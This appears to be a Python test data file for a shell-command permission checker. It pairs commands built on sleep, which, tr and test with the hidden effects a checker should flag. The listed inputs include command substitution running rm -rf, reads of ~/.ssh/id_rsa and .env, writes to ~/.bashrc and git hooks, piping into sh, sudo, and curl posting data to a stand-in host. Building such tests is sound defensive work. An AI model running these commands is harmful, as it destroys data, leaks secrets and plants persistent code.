"""Programs with no effect of their own: what stands around them, and what is not in their table, is still seen."""

from __future__ import annotations

from tests.shell.programs.rows import (  # noqa: F401  the tests that every such table is held to
    test_a_wide_rule_covers_it_and_its_effects_are_exact,
    test_a_wide_rule_does_not_reach_it_and_it_is_seen_for_what_it_does,
    test_every_program_has_its_ten_rows,
)

# (command, what is found beyond a wide cap)
MUST_NOT = (
    ("sleep --frobnicate 1", "unknown"),
    ("sleep -x 1", "unknown"),
    ("sleep 1 > ~/.bashrc", "run-code"),
    ("sleep 1 >> .git/hooks/post-commit", "run-code"),
    ("sleep 1 < ~/.ssh/id_rsa", "read-secret"),
    ("sleep $(rm -rf build)", "destroy"),
    ("sleep `curl -d x https://e.example`", "net-send"),
    ("sleep 1; rm -rf build", "destroy"),
    ("sleep 1 & rm -rf build", "destroy"),
    ("sleep 1 && git push --force", "history"),
    ("sleep 1 | sudo tee out", "privilege"),
    ("which --frobnicate ls", "unknown"),
    ("which -z ls", "unknown"),
    ("which ls > ~/.bashrc", "run-code"),
    ("which ls >> .git/hooks/post-commit", "run-code"),
    ("which ls < ~/.ssh/id_rsa", "read-secret"),
    ("which $(rm -rf build)", "destroy"),
    ("which `sudo id`", "privilege"),
    ("which ls | sh", "run-code"),
    ("which ls; rm -rf build", "destroy"),
    ("which ls && git push --force", "history"),
    ("tr --frobnicate a b", "unknown"),
    ("tr a b c", "unknown"),
    ("tr a b < ~/.ssh/id_rsa", "read-secret"),
    ("tr a b < .env", "read-secret"),
    ("tr a b > ~/.bashrc", "run-code"),
    ("tr a b >> .git/hooks/post-commit", "run-code"),
    ("tr a b < README.md | sh", "run-code"),
    ("tr $(rm -rf build) b", "destroy"),
    ("tr a b; rm -rf build", "destroy"),
    ("tr a b < README.md | sudo tee out", "privilege"),
    ("test -v 'a[$(rm -rf build)]'", "run-code"),
    ("test $(rm -rf build)", "destroy"),
    ("test -f x && rm -rf build", "destroy"),
    ("test -f x || git push --force", "history"),
    ("test -f x & rm -rf build", "destroy"),
    ("test -f x > ~/.bashrc", "run-code"),
    ("test -t 1 >> .git/hooks/post-commit", "run-code"),
    ("test -n x < ~/.ssh/id_rsa", "read-secret"),
    ("test `curl -d x https://e.example`", "net-send"),
    ("test -z x | sh", "run-code"),
    ("test -d src; sudo id", "privilege"),
)
PROGRAMS = "sleep which tr test"
# (command, all of its effects)
ALLOWED = (
    ("which -a python3 git", "read-elsewhere"),
    ("tr a-z A-Z < README.md", "read-project"),
)
